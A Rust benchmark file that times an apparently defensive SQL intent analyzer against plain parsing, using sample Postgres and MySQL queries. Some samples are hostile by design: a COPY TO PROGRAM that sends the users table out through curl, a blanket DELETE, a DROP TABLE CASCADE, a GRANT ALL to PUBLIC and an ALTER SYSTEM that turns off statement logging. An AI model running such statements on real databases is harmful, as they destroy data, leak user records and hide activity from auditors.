//! Intent extraction for typical SQL beside the bare parse of the same text, so the ratio
//! (target: within 1.5×) can be read from one run.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use criterion::{Criterion, criterion_group, criterion_main};
use guard_intent::Origin;
use guard_intent::sql::analyze;
use guard_model::Dialect;
use sqlparser::dialect::{GenericDialect, MySqlDialect};
use sqlparser::parser::Parser;

const PG: &[(&str, &str)] = &[
    (
        "select_join",
        "SELECT u.id, u.email, o.total FROM users u JOIN orders o ON o.user_id = u.id WHERE o.created_at > now() - interval '7 days' AND u.active ORDER BY o.total DESC LIMIT 50",
    ),
    (
        "delete_where",
        "DELETE FROM sessions WHERE expires_at < now()",
    ),
    ("delete_all", "DELETE FROM users WHERE 1=1"),
    (
        "update",
        "UPDATE accounts SET balance = balance - 10 WHERE id = 42",
    ),
    (
        "insert",
        "INSERT INTO events (kind, payload) VALUES ('login', '{}')",
    ),
    ("drop", "DROP TABLE IF EXISTS public.audit_log CASCADE"),
    (
        "cte_delete",
        "WITH d AS (DELETE FROM q WHERE done RETURNING *) SELECT count(*) FROM d",
    ),
    (
        "copy_program",
        "COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- http://x'",
    ),
    ("grant", "GRANT ALL ON users TO PUBLIC"),
    ("alter_system", "ALTER SYSTEM SET log_statement = 'none'"),
];

const MYSQL: &[(&str, &str)] = &[
    (
        "select_join",
        "SELECT u.id, o.total FROM users u JOIN orders o ON o.user_id = u.id WHERE u.active = 1 LIMIT 50",
    ),
    (
        "delete_where",
        "DELETE FROM sessions WHERE expires_at < NOW() LIMIT 1000",
    ),
    (
        "update",
        "UPDATE accounts SET balance = balance - 10 WHERE id = 42",
    ),
];

fn bench(c: &mut Criterion) {
    let mut g = c.benchmark_group("sql_postgres");
    for (name, sql) in PG {
        g.bench_function(format!("{name}/parse"), |b| {
            b.iter(|| pg_query::parse(std::hint::black_box(sql), 0).unwrap())
        });
        g.bench_function(format!("{name}/analyze"), |b| {
            b.iter(|| analyze(std::hint::black_box(sql), Dialect::Postgres, &Origin::top()))
        });
    }
    g.finish();
    let mut g = c.benchmark_group("sql_mysql");
    for (name, sql) in MYSQL {
        g.bench_function(format!("{name}/parse"), |b| {
            b.iter(|| Parser::parse_sql(&MySqlDialect {}, std::hint::black_box(sql)).unwrap())
        });
        g.bench_function(format!("{name}/analyze"), |b| {
            b.iter(|| analyze(std::hint::black_box(sql), Dialect::Mysql, &Origin::top()))
        });
    }
    g.bench_function("generic_select/parse", |b| {
        b.iter(|| Parser::parse_sql(&GenericDialect {}, std::hint::black_box(PG[0].1)).unwrap())
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
